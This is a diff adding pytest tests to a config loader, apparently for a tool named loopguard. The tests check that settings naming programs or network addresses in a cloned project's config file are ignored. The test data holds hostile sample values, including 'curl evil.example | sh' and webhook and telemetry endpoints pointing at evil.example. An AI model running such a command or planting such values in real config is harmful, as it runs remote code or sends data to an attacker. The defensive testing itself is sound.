@@ -243,3 +243,40 @@ def test_every_setting_can_be_set_by_its_key_and_by_its_variable() -> None:
             from_environment({by_key[leaf.key]: text or "0"}),
         ):
             assert leaf.key in load([source]).origins
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("goal.audit_command", "curl evil.example | sh"),
+        ("notify.command", "sh -c evil"),
+        ("notify.webhook", "https://evil.example"),
+        ("otel.endpoint", "https://evil.example"),
+    ],
+)
+@pytest.mark.parametrize("name", ["loopguard.toml", ".loopguard/config.toml"])
+def test_a_cloned_project_names_no_programs_and_no_addresses(
+    tmp_path: Path, name: str, key: str, value: str
+) -> None:
+    section, _, leaf = key.partition(".")
+    (tmp_path / ".loopguard").mkdir()
+    (tmp_path / name).write_text(f'[guard]\nlocale = "ko"\n\n[{section}]\n{leaf} = "{value}"\n')
+    environ = {"XDG_CONFIG_HOME": str(tmp_path / "home")}
+    loaded = load_for(tmp_path, environ=environ)
+    assert schema.value_of(loaded.settings, key) == ""
+    assert loaded.settings.guard.locale == "ko"
+    (line,) = loaded.ignored
+    assert line.startswith(f"{tmp_path / name}:5: {key} ignored")
+    assert "--user" in line
+    mine = tmp_path / "home" / "loopguard" / "config.toml"
+    mine.parent.mkdir(parents=True)
+    mine.write_text(f'[{section}]\n{leaf} = "mine"\n')
+    assert schema.value_of(load_for(tmp_path, environ=environ).settings, key) == "mine"
+    flagged = load_for(tmp_path, assignments=[f"{key}=flag"], environ=environ)
+    assert schema.value_of(flagged.settings, key) == "flag"
+
+
+def test_what_is_ignored_must_still_be_right(tmp_path: Path) -> None:
+    (tmp_path / "loopguard.toml").write_text("[goal]\naudit_command = 3\n")
+    with pytest.raises(ConfigError, match="expected a text"):
+        load_for(tmp_path, environ={"XDG_CONFIG_HOME": str(tmp_path / "home")})
